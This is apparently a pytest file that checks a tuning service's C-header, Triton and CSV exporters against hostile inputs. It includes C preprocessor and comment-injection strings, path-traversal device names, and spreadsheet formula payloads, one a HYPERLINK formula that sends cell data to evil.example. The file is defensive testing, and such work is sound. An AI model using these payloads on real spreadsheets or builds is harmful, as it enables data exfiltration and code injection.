"""Hostile strings in the exports' writers (core/exports/): tune values, problem keys, device names and
parameter names as a user or a worker can choose them.

- header: a value is a C string literal of exactly its bytes (compiled with gcc and g++ in four
  language modes, run, and each value's bytes compared), nothing ends a comment or a line, the header
  preprocesses to no code and defines exactly its own macros; the widest 64-bit integers compile and
  read back, wider ones and names C cannot keep apart are refused;
- triton: parameters that upper-case alike, two GPU models in one file, a device name that is no file
  name are refused;
- csv: OWASP's formula guard and RFC 4180 quoting, in the Python writer (read back with the csv
  module) and in the dashboard's ``csvValue`` (run in node), which must agree cell for cell.
"""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import subprocess
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest

from kernelfarm.core.errors import InvalidInput
from kernelfarm.core.exports import csv_format, header, triton
from kernelfarm.core.exports.model import BestEntry, BestExport, TrialRow, TrialsExport
from kernelfarm.testing.exports import entry

REPO = Path(__file__).resolve().parents[2]
JOB_JS = REPO / "api" / "ui" / "static" / "js" / "job.js"

# Strings that end a #define, a string literal or a comment if written raw, or change what an escape
# before them means.
HOSTILE_VALUES = [
    'x"\n#define printf(...) 0 /* injected */\nstatic const char *y = "',  # the probe's value
    "\r\n#define X 1",
    "ends in a backslash\\",
    "\\\n#define SPLICED 1",  # a backslash-newline splices lines
    "??/\n#define TRIGRAPH 1",  # "??/" is a backslash in -std=c99
    '???"??=??(??)??<??>??!??-',
    "\x00after a NUL",
    "\x017 and \x1fABCDEF",  # an octal or hex escape must not swallow the digits after it
    "\t\v\f\b\a\x1b[31m\x7f",
    "é中😀",
    "\u2028\u2029\x85",
    "*/ int injected_by_value = 1; /*",
    "// a line comment",
    "'",
    "",
]
HOSTILE_PROBLEMS = ["*/ int injected_by_problem = 1; /*", "f32 */ x", "a\nb\r\n#define P 1", "/* nested", "x\\"]
COMPILERS = [("gcc", ".c", "-std=c99"), ("gcc", ".c", "-std=gnu17"), ("g++", ".cpp", "-std=c++11"),
             ("g++", ".cpp", "-std=c++17")]  # fmt: skip
FLAGS = ["-Wall", "-Wextra", "-Werror", "-pedantic"]


def best_export(kernel: str, parameters: list[str], entries: list[BestEntry]) -> BestExport:
    return BestExport(
        kernel=kernel, kernel_version=1, source_hash="ab" * 32, parameters=parameters,
        problem_params=sorted({name for e in entries for name in e.problem}),
        generated_at=datetime(2026, 11, 24, tzinfo=UTC), entries=entries,
    )  # fmt: skip


def need(compiler: str) -> None:
    if shutil.which(compiler) is None:
        pytest.skip(f"{compiler} is not installed")


def compile_and_run(compiler: str, suffix: str, std: str, folder: Path, program: str, *defines: str) -> str:
    source = folder / f"main{suffix}"
    source.write_text(program)
    binary = folder / "main"
    built = subprocess.run([compiler, std, *FLAGS, *(f"-D{d}" for d in defines), "-o", str(binary), str(source)],
                           capture_output=True, text=True, timeout=120)  # fmt: skip
    assert built.returncode == 0, built.stderr
    return subprocess.run([str(binary)], capture_output=True, text=True, check=True, timeout=60).stdout


def hex_program(includes: list[str], macros: list[str]) -> str:
    """Prints every macro's bytes (a string literal's, without its closing NUL) in hex, a line each."""
    lines = ["#include <stdio.h>", *(f'#include "{name}"' for name in includes),
             "static void hex(const char *s, size_t n) {",
             '    size_t i; printf("v");',
             '    for (i = 0; i < n; i++) printf("%02x", (unsigned char)s[i]);',
             '    printf("\\n");',
             "}", "int main(void) {", *(f"    hex({m}, sizeof({m}) - 1);" for m in macros),
             "    return 0;", "}"]  # fmt: skip
    return "\n".join(lines) + "\n"


def language(compiler: str) -> list[str]:
    return ["-x", "c++" if compiler == "g++" else "c"]


def defined_macros(compiler: str, std: str, path: Path) -> set[str]:
    """The macros ``path`` defines: what ``-dM`` lists with it less what it lists for an empty file."""

    def listed(source: Path) -> set[str]:
        done = subprocess.run([compiler, std, *language(compiler), "-dM", "-E", str(source)], capture_output=True,
                              text=True, check=True, timeout=60)  # fmt: skip
        return {line.split()[1].split("(")[0] for line in done.stdout.splitlines()}

    empty = path.parent / "empty.h"
    empty.write_text("")
    return listed(path) - listed(empty)


def check_no_code(compiler: str, std: str, path: Path) -> None:
    """The header alone: no warning, and nothing but its macros (no declaration, no stray token).
    Without -pedantic: ISO C forbids a translation unit that is empty, as a header alone is."""
    warnings = ["-Wall", "-Wextra", "-Werror"]
    syntax = subprocess.run([compiler, std, *warnings, *language(compiler), "-fsyntax-only", str(path)],
                            capture_output=True, text=True, timeout=60)  # fmt: skip
    assert syntax.returncode == 0, syntax.stderr
    code = subprocess.run([compiler, std, *language(compiler), "-E", "-P", str(path)], capture_output=True,
                          text=True, check=True, timeout=60).stdout  # fmt: skip
    assert code.strip() == "", code


@pytest.mark.parametrize(("compiler", "suffix", "std"), COMPILERS, ids=[c[0] + c[2] for c in COMPILERS])
def test_hostile_string_values_compile_and_read_back_byte_for_byte(
    compiler: str, suffix: str, std: str, tmp_path: Path
) -> None:
    need(compiler)
    parameters = [f"p{i}" for i in range(len(HOSTILE_VALUES))]
    config = dict(zip(parameters, HOSTILE_VALUES, strict=True))
    export = best_export("hostile", parameters, [entry("nvidia-l4", {"M": 1}, config, 1.0, gpu_name="NVIDIA L4")])
    path = tmp_path / "hostile.h"
    path.write_text(header.write(export))
    macros = [header.macro_name("hostile", p) for p in parameters]
    check_no_code(compiler, std, path)
    assert defined_macros(compiler, std, path) == {header.include_guard("hostile"), *macros}
    expected = ["v" + value.encode("utf-8").hex() for value in HOSTILE_VALUES]
    for defines in ([], ["KERNELFARM_TARGET_NVIDIA_L4"]):  # the default block and the GPU model's block
        out = compile_and_run(compiler, suffix, std, tmp_path, hex_program(["hostile.h"], macros), *defines)
        assert out.splitlines() == expected


@pytest.mark.parametrize(("compiler", "suffix", "std"), COMPILERS, ids=[c[0] + c[2] for c in COMPILERS])
def test_hostile_problem_keys_and_device_names_stay_in_their_comments(
    compiler: str, suffix: str, std: str, tmp_path: Path
) -> None:
    need(compiler)
    gpu_name = "GPU */ int injected_by_device = 1; /*\n#define D 1"
    entries = [entry("gpu-a", {"dt": dt}, {"bs": f"v{i}"}, 1.0 + i, gpu_name=gpu_name)
               for i, dt in enumerate(HOSTILE_PROBLEMS)]  # fmt: skip
    export = best_export("probe */ int injected_by_kernel; /*", ["bs"], entries)
    text = header.write(export)
    kernel = header.macro_name(export.kernel)
    macros = [header.macro_name(kernel, header.problem_tag(e.problem_key), "bs") for e in entries]
    assert len(set(macros)) == len(entries) and all(re.fullmatch(r"[A-Z][A-Z0-9_]*", m) for m in macros)
    path = tmp_path / "probe.h"
    path.write_text(text)
    check_no_code(compiler, std, path)
    assert defined_macros(compiler, std, path) == {header.include_guard(export.kernel),
                                                       header.macro_name(kernel, "bs"), *macros}  # fmt: skip
    out = compile_and_run(compiler, suffix, std, tmp_path, hex_program(["probe.h"], macros), "KERNELFARM_TARGET_GPU_A")
    assert out.splitlines() == ["v" + f"v{i}".encode().hex() for i in range(len(entries))]


def test_comment_text_cannot_end_a_comment_or_a_line() -> None:
    for text in [*HOSTILE_VALUES, *HOSTILE_PROBLEMS, "*/*/", "/*/", "**//"]:
        safe = header.comment_text(text)
        assert "*/" not in safe and "/*" not in safe and all(" " <= ch <= "~" for ch in safe), (text, safe)
    assert header.comment_text("M=4096,N=4096") == "M=4096,N=4096"  # ordinary text as it was


def test_parameters_that_give_one_macro_are_refused_naming_both() -> None:
    export = best_export("probe_inj", ["bs", "BS"], [entry("gpu-a", {"M": 1}, {"bs": 1, "BS": 2}, 1.0)])
    with pytest.raises(InvalidInput, match=r"parameter 'bs' and parameter 'BS' would both be PROBE_INJ_BS"):
        header.write(export)


def test_problems_that_give_one_tag_are_refused_naming_both() -> None:
    entries = [entry("gpu-a", {"dt": "bf16"}, {"bs": 1}, 1.0), entry("gpu-a", {"dt": "BF16"}, {"bs": 2}, 1.0)]
    with pytest.raises(InvalidInput, match=r"problem 'dt=bf16' and parameter 'bs' of problem 'dt=BF16'"):
        header.write(best_export("probe", ["bs"], entries))


def test_gpu_models_that_give_one_target_macro_are_refused_naming_both() -> None:
    entries = [entry("gpu-a", {"M": 1}, {"bs": 1}, 1.0), entry("gpu_a", {"M": 1}, {"bs": 2}, 1.0)]
    with pytest.raises(InvalidInput, match=r"GPU model 'gpu-a' and GPU model 'gpu_a' would both be "
                                           r"KERNELFARM_TARGET_GPU_A"):  # fmt: skip
        header.write(best_export("probe", ["bs"], entries))


@pytest.mark.parametrize("kernel", ["---", "3mm", ""])
def test_a_kernel_name_that_gives_no_c_name_is_refused(kernel: str) -> None:
    with pytest.raises(InvalidInput, match="starts with a letter"):
        header.write(best_export(kernel, ["bs"], [entry("gpu-a", {"M": 1}, {"bs": 1}, 1.0)]))


def test_problem_tags_keep_apart_what_c_names_cannot_hold() -> None:
    keys = ["dt=a-b", "dt=a_b", "dt=a.b", "dt=a b", "dt=a=b", "dt=ab", "dt=é", "alpha=0.5", "alpha=0_5"]
    tags = [header.problem_tag(k) for k in keys]
    assert len(set(tags)) == len(keys), dict(zip(keys, tags, strict=True))
    assert all(re.fullmatch(r"[A-Z0-9]+(_[A-Z0-9]+)*", t) for t in tags), tags
    # ordinary keys keep their tags
    assert header.problem_tag("M=4096,N=4096,K=4096") == "M4096_N4096_K4096"
    assert header.problem_tag("M=1024,dtype=bfloat16,b_layout=kn") == "M1024_DTYPEBFLOAT16_B_LAYOUTKN"


def test_kernels_and_problems_with_alike_names_keep_apart_in_one_program(tmp_path: Path) -> None:
    """``probe-num`` and ``probe_num`` once shared an include guard: the second header was empty. Their
    parameters differ here, so that both headers' macros can be read in one program."""
    need("gcc")
    problems = [
        entry("gpu-a", {"dt": "a-b"}, {"first": "a-b"}, 1.0),
        entry("gpu-a", {"dt": "a_b"}, {"first": "a_b"}, 2.0),
    ]
    (tmp_path / "dash.h").write_text(header.write(best_export("probe-num", ["first"], problems)))
    second = [entry("gpu-a", {"M": 1}, {"second": "underscore"}, 1.0)]
    (tmp_path / "underscore.h").write_text(header.write(best_export("probe_num", ["second"], second)))
    assert header.include_guard("probe-num") != header.include_guard("probe_num")
    macros = ["PROBE_NUM_DTA_X2D_B_FIRST", "PROBE_NUM_DTA_B_FIRST", "PROBE_NUM_SECOND"]
    program = hex_program(["dash.h", "underscore.h"], macros)
    out = compile_and_run("gcc", ".c", "-std=c99", tmp_path, program, "KERNELFARM_TARGET_GPU_A")
    assert out.splitlines() == ["v" + value.encode().hex() for value in ("a-b", "a_b", "underscore")]


@pytest.mark.parametrize(("compiler", "suffix", "std"), COMPILERS, ids=[c[0] + c[2] for c in COMPILERS])
def test_the_widest_integers_compile_and_read_back(compiler: str, suffix: str, std: str, tmp_path: Path) -> None:
    need(compiler)
    config = {"top": 2**63 - 1, "bottom": -(2**63 - 1), "zero": 0, "negative": -3}
    export = best_export("wide", list(config), [entry("gpu-a", {"M": 1}, config, 1.0)])
    (tmp_path / "wide.h").write_text(header.write(export))
    macros = [header.macro_name("wide", p) for p in config]
    prints = [f'    printf("%lld\\n", (long long)({m}));' for m in macros]
    program = "\n".join(
        ["#include <stdio.h>", '#include "wide.h"', "int main(void) {", *prints, "    return 0;", "}", ""]
    )
    out = compile_and_run(compiler, suffix, std, tmp_path, program)
    assert out.splitlines() == [str(v) for v in config.values()]


@pytest.mark.parametrize("value", [2**63, -(2**63), 2**70, -(10**30)])
def test_an_integer_no_c_constant_holds_is_refused_naming_it(value: int) -> None:
    """gcc and g++ fail these with -Werror: "integer constant is so large that it is unsigned" (2**63,
    and -2**63, which is "-" applied to 2**63) or "too large for its type"."""
    entries = [
        entry("gpu-a", {"M": 1}, {"bs": 1, "huge": 1}, 1.0),
        entry("gpu-b", {"M": 1}, {"bs": 1, "huge": value}, 2.0),
    ]
    with pytest.raises(InvalidInput, match=rf"parameter 'huge' is {value} on gpu-b for 'M=1'.*at most {2**63 - 1}"):
        header.write(best_export("probe", ["bs", "huge"], entries))


# ---------------------------------------------------------------------------------------------- triton


def test_triton_refuses_parameters_that_upper_case_alike() -> None:
    with pytest.raises(InvalidInput, match=r"parameters 'bs' and 'BS' are both 'BS'"):
        triton.triton_config({"bs": 1, "BS": 2})
    export = best_export("probe", ["bs", "BS"], [entry("gpu-a", {"M": 1}, {"bs": 1, "BS": 2}, 1.0)])
    with pytest.raises(InvalidInput, match=r"'bs' and 'BS'"):
        triton.write(export)
    assert triton.triton_config({"bs": 1, "num_warps": 4, "NUM_WARPS": 8}) == {"BS": 1, "num_warps": 4, "NUM_WARPS": 8}


def test_triton_refuses_two_gpu_models_in_one_file_under_one_shape_key() -> None:
    entries = [entry("gpu-a", {"M": 1}, {"bs": 1}, 1.0, gpu_name="Same GPU"),
               entry("gpu-b", {"M": 1}, {"bs": 2}, 1.0, gpu_name="Same GPU")]  # fmt: skip
    with pytest.raises(InvalidInput, match=r"GPU models 'gpu-a' and 'gpu-b' would both write 'M=1'"):
        triton.write(best_export("probe", ["bs"], entries))


@pytest.mark.parametrize("gpu_name", ["../../escaped", "/tmp/absolute", "a\\b", "nul\x00"])
def test_triton_refuses_a_device_name_that_is_no_file_name(gpu_name: str) -> None:
    export = best_export("probe", ["bs"], [entry("gpu-a", {"M": 1}, {"bs": 1}, 1.0, gpu_name=gpu_name)])
    with pytest.raises(InvalidInput, match="not a plain file name"):
        triton.write(export)


# ------------------------------------------------------------------------------------------------- csv

FORMULAS = ['=HYPERLINK("http://evil.example/?x"&A1;"click")', "@SUM(1+1)", "\t-2+3", "+1", "-2+3", "\rcmd", "-1.5"]
# (value, cell) for the Python writer and the dashboard's csvValue alike.
CELLS: list[tuple[Any, str]] = [
    (FORMULAS[0], '''"'=HYPERLINK(""http://evil.example/?x""&A1;""click"")"'''),
    ("@SUM(1+1)", "'@SUM(1+1)"), ("\t-2+3", "'\t-2+3"), ("+1", "'+1"), ("-2+3", "'-2+3"), ("\rcmd", "\"'\rcmd\""),
    ("-1.5", "'-1.5"),  # a string, not a number
    (-1.5, "-1.5"), (-2, "-2"), (3, "3"), (None, ""), ("plain", "plain"), ("", ""),
    ("a\rb", '"a\rb"'), ("a\nb", '"a\nb"'), ("a,b", '"a,b"'), ('q"', '"q"""'), (" -1", " -1"),
]  # fmt: skip


@pytest.mark.parametrize(("value", "cell"), CELLS, ids=[repr(v) for v, _ in CELLS])
def test_a_csv_cell_is_guarded_and_quoted(value: Any, cell: str) -> None:
    assert csv_format.cell(value) == cell


def test_the_csv_export_reads_back_with_formulas_neutralised() -> None:
    strings = {f"s{i}": value for i, value in enumerate(FORMULAS)}
    config = {**strings, "negative": -1.5, "count": -3, "text": "a\rb,c"}
    trial = TrialRow(seq=0, config=config, config_key=",".join(str(v) for v in config.values()), state="complete",
                     time_ms=1.25, verified=True)  # fmt: skip
    export = TrialsExport(kernel="probe", job_id="j", gpu_model="gpu-a", problem={},
                          parameters={name: [value] for name, value in config.items()}, trials=[trial])  # fmt: skip
    text = csv_format.write(export)
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert len(rows) == 1
    [row] = rows
    assert row["config_key"] == "'" + trial.config_key  # it starts with "=HYPERLINK"
    assert {name: row[name] for name in strings} == {name: "'" + value for name, value in strings.items()}
    assert (row["negative"], row["count"], row["text"], row["time_ms"]) == ("-1.5", "-3", "a\rb,c", "1.25")
    assert '"a\rb,c"' in text  # a bare CR is quoted: readers that end a line at CR keep the row whole


def _node_csv_value(values: list[Any]) -> list[str]:
    """The dashboard's ``csvValue`` (api/ui/static/js/job.js) run in node on ``values``."""
    source = JOB_JS.read_text()
    found = re.search(r"^function csvValue\(value\) \{\n.*?^\}\n", source, re.MULTILINE | re.DOTALL)
    assert found, "job.js has no csvValue"
    script = found.group(0) + "process.stdout.write(JSON.stringify(JSON.parse(process.argv[1]).map(csvValue)));\n"
    done = subprocess.run(["node", "-e", script, json.dumps(values)], capture_output=True, text=True, timeout=60)
    assert done.returncode == 0, done.stderr
    cells: list[str] = json.loads(done.stdout)
    return cells


def test_the_dashboards_csv_cells_are_the_exports_cells() -> None:
    if shutil.which("node") is None:
        pytest.skip("node is not installed")
    values = [value for value, _ in CELLS]
    assert _node_csv_value(values) == [cell for _, cell in CELLS]
